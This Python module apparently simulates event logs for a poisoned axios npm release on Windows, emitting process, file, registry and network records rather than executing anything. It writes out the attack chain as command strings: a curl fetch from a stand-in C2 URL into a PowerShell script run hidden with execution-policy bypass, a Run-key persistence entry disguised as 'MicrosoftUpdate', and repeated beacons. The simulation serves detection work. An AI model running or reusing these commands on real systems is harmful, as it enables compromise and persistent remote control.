r"""The incident: a poisoned release of axios on a developer's workstation, as published for Windows.

npm runs the install script of a dependency. The script copies PowerShell to C:\ProgramData\wt.exe, writes a
VBScript and has cscript.exe run it; that one's command line fetches a PowerShell script, runs it with the copy and
deletes it. The copy writes system.bat and a Run value for it, and calls its master again and again.
Only log records: there is no script behind the names.
"""

from __future__ import annotations

from sample.developer import NPM, shell_command, shell_in_editor
from sample.machine import Process
from sample.network import C2, C2_PORT
from sample.office import temp_folder
from sample.scene import Scene

_PROJECT = "D:\\src\\webshop\\"
_PACKAGE = _PROJECT + "node_modules\\plain-crypto-js\\"
_URL = f"http://{C2.name}:{C2_PORT}/6202033"
COPY = "C:\\ProgramData\\wt.exe"
BEACONS = 6


def incident(scene: Scene, _turn: int) -> None:
    """All of it, in the published order; about five minutes, most of them between calls."""
    shell = shell_in_editor(scene)
    npm = scene.start(
        "node",
        parent=shell,
        command=f'"{scene.host.programs["node"].path}" "{NPM}" install axios@1.14.1',
        directory=_PROJECT,
    )
    scene.visit(npm, "registry.npmjs.org")
    for package in ("axios", "plain-crypto-js"):
        scene.write(npm, f"{_PROJECT}node_modules\\{package}\\package.json")
    scene.write(npm, f"{_PACKAGE}setup.js")
    line = shell_command(scene, npm, "node setup.js", _PACKAGE)
    script = scene.start("node", parent=line, command="node  setup.js", directory=_PACKAGE)
    copy = _stage_one(scene, script)
    scene.delete(script, f"{_PACKAGE}setup.js")
    scene.delete(script, f"{_PACKAGE}package.json")
    scene.stop(script, line, npm)
    _implant(scene, copy)


def _stage_one(scene: Scene, script: Process) -> Process:
    """What setup.js does; it returns the process of the copied PowerShell."""
    look = shell_command(scene, script, '"where powershell"', _PACKAGE)
    scene.run("where", "powershell", look, 0.1)
    scene.stop(look)
    scene.write(script, COPY)
    vbs = f"{temp_folder(scene)}\\6202033.vbs"
    scene.write(script, vbs)
    line = shell_command(scene, script, f'"cscript "{vbs}" //nologo && del "{vbs}" /f"', _PACKAGE)
    host = scene.start("cscript", parent=line, command=f'cscript  "{vbs}" //nologo', directory=_PACKAGE)
    copy = _fetch_and_run(scene, host)
    scene.stop(host)
    scene.delete(line, vbs)
    scene.stop(line)
    return copy


def _fetch_and_run(scene: Scene, host: Process) -> Process:
    """The command line that cscript.exe starts and does not wait for."""
    ps1 = f"{temp_folder(scene)}\\6202033.ps1"
    fetch = f'curl -s -X POST -d "packages.npm.org/product1" "{_URL}"'
    run = f'"{COPY}" -w hidden -ep bypass -file "{ps1}" "{_URL}"'
    line = scene.start(
        "cmd",
        parent=host,
        command=f'"C:\\Windows\\System32\\cmd.exe" /c {fetch} > "{ps1}" & {run} & del "{ps1}" /f',
        directory=_PACKAGE,
        console=True,
    )
    scene.write(line, ps1)
    curl = scene.start("curl", parent=line, command=fetch.replace("curl ", "curl  ", 1), directory=_PACKAGE)
    scene.connect(curl, scene.resolve(curl, C2), C2_PORT)
    scene.pause(0.6, 1.8)
    scene.stop(curl)
    powershell = scene.host.programs["powershell"]
    copy = scene.start(powershell.at(COPY), parent=line, command=run, directory=_PACKAGE, loads=14)
    scene.delete(line, ps1)
    scene.stop(line)
    return copy


def _implant(scene: Scene, copy: Process) -> None:
    """What the copy does once it runs."""
    batch = "C:\\ProgramData\\system.bat"
    scene.write(copy, batch)
    scene.set_value(
        copy,
        f"{scene.hive(scene.host.user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MicrosoftUpdate",
        batch,
    )
    service = scene.resolve(copy, C2)
    for number in range(BEACONS):
        scene.connect(copy, service, C2_PORT)
        scene.pause(*((2, 4) if number == 0 else (60, 61)))
